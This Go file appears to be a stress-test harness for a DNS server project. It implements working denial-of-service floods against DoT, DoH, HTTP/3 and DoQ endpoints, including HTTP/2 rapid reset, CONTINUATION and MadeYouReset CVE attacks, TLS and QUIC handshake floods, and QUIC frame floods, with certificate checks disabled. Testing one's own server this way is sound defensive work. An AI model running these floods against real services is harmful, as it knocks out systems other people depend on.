package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"maps"
	"math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/shoji-dns/shoji/internal/odoh"
	"github.com/shoji-dns/shoji/internal/rogue"
)

// kinds are the floods by their names. Each goes on until its context ends, and says how often it
// did what it does.
func kinds() map[string]func(context.Context, target) (int, error) {
	return map[string]func(context.Context, target) (int, error){
		udpKind:            plain,
		"tls-hello":        floods(hello),
		"tls-handshake":    floods(handshake),
		"dot-queries":      floods(dotQueries),
		"doh-queries":      floods(h2Flood(h2Query)),
		"odoh-queries":     odohQueries,
		"doh-reset":        floods(h2Flood(h2Reset)),
		"doh-continuation": floods(h2Flood(h2Continuation)),
		"doh-ping":         floods(h2Flood(func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{}) })),
		"doh-settings":     floods(h2Flood(func(f *http2.Framer, _ uint32) error { return f.WriteSettings() })),
		"doh-madeyoureset": floods(h2Flood(h2Made)),
		"h3-queries":       floods(h3Queries),
		"quic-hello":       floods(quicHello),
		"quic-handshake":   floods(quicHandshake),
		"doq-queries":      floods(doqQueries),
		"doq-cancel":       floods(doqCancel),
		"doq-path": floods(frames(func(out []byte, i uint64) []byte {
			return append(rogue.Numbers(out, rogue.FrameChallenge), 1, 2, 3, 4, 5, 6, 7, byte(i))
		})),
		"doq-retire-id":   floods(frames(func(out []byte, i uint64) []byte { return rogue.NewID(out, i+1, i+1) })),
		"doq-ping":        floods(frames(func(out []byte, _ uint64) []byte { return append(out, rogue.FramePing) })),
		"doq-acknowledge": floods(frames(func(out []byte, _ uint64) []byte { return rogue.Acknowledge(out, 0) })),
	}
}

// names are the floods' in a fixed order.
func names() []string {
	return slices.DeleteFunc(slices.Sorted(maps.Keys(kinds())), func(k string) bool { return k == udpKind })
}

// workers is how many do the same at a time.
const workers = 16

// security is how clients here trust whoever answers.
func security(protocol string) *tls.Config {
	return &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}, MinVersion: tls.VersionTLS13}
}

// from is some address of loopback: limits for each source are no limit to a flood of many.
func from() netip.Addr {
	return netip.AddrFrom4([4]byte{127, byte(2 + rand.IntN(200)), byte(rand.IntN(250)), byte(1 + rand.IntN(250))})
}

// step does something again and again until it fails, and counts it.
type step func(ctx context.Context, to target, n *atomic.Int64) error

// floods repeats a step by all workers; that it fails is the server's right.
func floods(do step) func(context.Context, target) (int, error) {
	return func(ctx context.Context, to target) (int, error) {
		var n atomic.Int64
		var all sync.WaitGroup
		for range workers {
			all.Go(func() {
				for ctx.Err() == nil {
					do(ctx, to, &n)
				}
			})
		}
		all.Wait()
		if n.Load() == 0 {
			return 0, errors.New("it did nothing at all")
		}
		return int(n.Load()), nil
	}
}

// dial connects over TCP; the connection ends with ctx.
func dial(ctx context.Context, to netip.AddrPort) (net.Conn, func(), error) {
	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from(), 0)), KeepAlive: -1}
	c, err := d.DialContext(ctx, "tcp", to.String())
	if err != nil {
		return nil, nil, err
	}
	c.(*net.TCPConn).SetLinger(0)
	stop := context.AfterFunc(ctx, func() { c.Close() })
	return c, func() { stop(); c.Close() }, nil
}

// capture is what a client writes first.
type capture struct {
	net.Conn
	out bytes.Buffer
}

func (c *capture) Write(b []byte) (int, error) { return c.out.Write(b) }
func (c *capture) Read([]byte) (int, error)    { return 0, io.EOF }

// hello sends the same ClientHello on connections of their own: it costs the client next to
// nothing, and the server a key exchange and a signature.
func hello(ctx context.Context, to target, n *atomic.Int64) error {
	var c capture
	conf := security("dot")
	conf.CurvePreferences = []tls.CurveID{tls.X25519}
	tls.Client(&c, conf).Handshake() // which fails
	for ctx.Err() == nil {
		conn, end, err := dial(ctx, to.dot)
		if err != nil {
			return err
		}
		conn.Write(c.out.Bytes())
		if _, err := conn.Read(make([]byte, 1)); err == nil {
			n.Add(1)
		}
		end()
	}
	return nil
}

// handshake shakes hands and hangs up.
func handshake(ctx context.Context, to target, n *atomic.Int64) error {
	conn, end, err := dial(ctx, to.dot)
	if err != nil {
		return err
	}
	defer end()
	if err := tls.Client(conn, security("dot")).HandshakeContext(ctx); err != nil {
		return err
	}
	n.Add(1)
	return nil
}

// burst is how many queries leave together.
const burst = 32

// dotQueries asks on one connection as fast as answers come.
func dotQueries(ctx context.Context, to target, n *atomic.Int64) error {
	conn, end, err := dial(ctx, to.dot)
	if err != nil {
		return err
	}
	defer end()
	c := tls.Client(conn, security("dot"))
	many := []byte(strings.Repeat("\x00"+string(rune(len(query)))+query, burst))
	for b := make([]byte, 16<<10); ; {
		if _, err := c.Write(many); err != nil {
			return err
		}
		for left := burst; left > 0; left-- {
			if _, err := io.ReadFull(c, b[:2]); err != nil {
				return err
			}
			if _, err := io.ReadFull(c, b[:int(b[0])<<8|int(b[1])]); err != nil {
				return err
			}
		}
		n.Add(burst)
	}
}

// h2Flood sends what a function writes on one connection after another, each as long as the
// server bears it.
func h2Flood(write func(f *http2.Framer, stream uint32) error) step {
	return func(ctx context.Context, to target, n *atomic.Int64) error {
		conn, end, err := dial(ctx, to.doh)
		if err != nil {
			return err
		}
		defer end()
		c := tls.Client(conn, security("h2"))
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		out := new(bytes.Buffer)
		f := http2.NewFramer(out, nil)
		f.AllowIllegalWrites = true
		f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 30})
		f.WriteWindowUpdate(0, 1<<30)
		go io.Copy(io.Discard, c)
		for stream := uint32(1); ctx.Err() == nil; {
			for range burst {
				if err := write(f, stream); err != nil {
					return err
				}
				stream += 2
			}
			if _, err := c.Write(out.Bytes()); err != nil {
				return err
			}
			out.Reset()
			n.Add(burst)
		}
		return nil
	}
}

func h2Fields(contentType string) []byte {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	enc.SetMaxDynamicTableSize(0)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":path", "/dns-query"}, {"content-type", contentType}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	return block.Bytes()
}

func h2Query(f *http2.Framer, stream uint32) error {
	return h2Post(f, stream, "application/dns-message", []byte(query))
}

func h2Post(f *http2.Framer, stream uint32, contentType string, body []byte) error {
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, EndHeaders: true, BlockFragment: h2Fields(contentType)}); err != nil {
		return err
	}
	return f.WriteData(stream, true, body)
}

// odohQueries sends the same oblivious query again and again: it costs the client next to nothing, and
// the server a key exchange.
func odohQueries(ctx context.Context, to target) (int, error) {
	web := &http.Client{Transport: &http.Transport{TLSClientConfig: security("h2"), ForceAttemptHTTP2: true}}
	res, err := web.Get("https://" + to.doh.String() + odoh.ConfigsPath)
	if err != nil {
		return 0, err
	}
	defer res.Body.Close()
	configs, err := io.ReadAll(res.Body)
	if err != nil {
		return 0, err
	}
	key, err := odoh.ParseConfigs(configs)
	if err != nil {
		return 0, err
	}
	sealed, _, err := key.Seal([]byte(query))
	if err != nil {
		return 0, err
	}
	return floods(h2Flood(func(f *http2.Framer, stream uint32) error {
		return h2Post(f, stream, "application/oblivious-dns-message", sealed)
	}))(ctx, to)
}

// h2Reset is CVE-2023-44487.
func h2Reset(f *http2.Framer, stream uint32) error {
	if err := h2Query(f, stream); err != nil {
		return err
	}
	return f.WriteRSTStream(stream, http2.ErrCodeCancel)
}

// h2Continuation is CVE-2024-27316 and its kin: a header block without an end.
func h2Continuation(f *http2.Framer, stream uint32) error {
	if stream == 1 {
		return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h2Fields("application/dns-message")})
	}
	return f.WriteContinuation(1, false, []byte("\x00\x01a\x01b"))
}

// h2Made is CVE-2025-8671: the server is made to reset.
func h2Made(f *http2.Framer, stream uint32) error {
	if err := h2Query(f, stream); err != nil {
		return err
	}
	return f.WriteWindowUpdate(stream, 0)
}

// h3Queries asks over HTTP/3.
func h3Queries(ctx context.Context, to target, n *atomic.Int64) error {
	tr := &http3.Transport{TLSClientConfig: security("h3")}
	defer tr.Close()
	for ctx.Err() == nil {
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+to.doh.String()+"/dns-query", strings.NewReader(query))
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", "application/dns-message")
		res, err := tr.RoundTrip(req)
		if err != nil {
			return err
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		n.Add(1)
	}
	return nil
}

// greetings is how many first datagrams a flood of them has; one that the server knows already
// would be of a connection that there is.
const greetings = 256

// quicHello sends first datagrams and never reads, as who forges his address does.
func quicHello(ctx context.Context, to target, n *atomic.Int64) error {
	var all [][]byte
	for range greetings {
		b, err := rogue.Hello(security("doq"))
		if err != nil {
			return err
		}
		all = append(all, b)
	}
	for ctx.Err() == nil {
		c, err := net.DialUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(from(), 0)), net.UDPAddrFromAddrPort(to.doq))
		if err != nil {
			return err
		}
		for _, b := range all {
			c.Write(b)
			n.Add(1)
		}
		c.Close()
	}
	return nil
}

func quicHandshake(ctx context.Context, to target, n *atomic.Int64) error {
	ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	c, err := rogue.Dial(ctx, rogue.Config{Security: security("doq"), From: from()}, to.doq)
	if err != nil {
		return err
	}
	n.Add(1)
	return c.Close()
}

// doqDial connects by a client that keeps to the rules.
func doqDial(ctx context.Context, to target) (*quic.Conn, func(), error) {
	udp, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(netip.AddrPortFrom(from(), 0)))
	if err != nil {
		return nil, nil, err
	}
	c, err := quic.Dial(ctx, udp, net.UDPAddrFromAddrPort(to.doq), security("doq"), nil)
	if err != nil {
		udp.Close()
		return nil, nil, err
	}
	return c, func() { c.CloseWithError(0, ""); udp.Close() }, nil
}

func doqQueries(ctx context.Context, to target, n *atomic.Int64) error {
	c, end, err := doqDial(ctx, to)
	if err != nil {
		return err
	}
	defer end()
	for {
		s, err := c.OpenStreamSync(ctx)
		if err != nil {
			return err
		}
		s.Write([]byte("\x00" + string(rune(len(query))) + query))
		s.Close()
		if _, err := io.ReadAll(s); err != nil {
			return err
		}
		n.Add(1)
	}
}

// doqCancel is rapid reset over QUIC.
func doqCancel(ctx context.Context, to target, n *atomic.Int64) error {
	c, end, err := doqDial(ctx, to)
	if err != nil {
		return err
	}
	defer end()
	for {
		s, err := c.OpenStreamSync(ctx)
		if err != nil {
			return err
		}
		s.Write([]byte("\x00" + string(rune(len(query))) + query))
		s.CancelWrite(0)
		s.CancelRead(0)
		n.Add(1)
	}
}

// frames sends packets full of one kind of frame, on one connection after another.
func frames(one func(out []byte, i uint64) []byte) step {
	return func(ctx context.Context, to target, n *atomic.Int64) error {
		shake, cancel := context.WithTimeout(ctx, 2*time.Second)
		defer cancel()
		c, err := rogue.Dial(shake, rogue.Config{Security: security("doq"), From: from(), Mute: true}, to.doq)
		if err != nil {
			return err
		}
		defer c.Close()
		for i := uint64(0); ctx.Err() == nil; {
			var out []byte
			for len(out) < rogue.FullDatagram-100 {
				out = one(out, i)
				i++
				n.Add(1)
			}
			if c.Send(out) != nil || c.Seen().Closed != nil {
				return nil
			}
		}
		return nil
	}
}
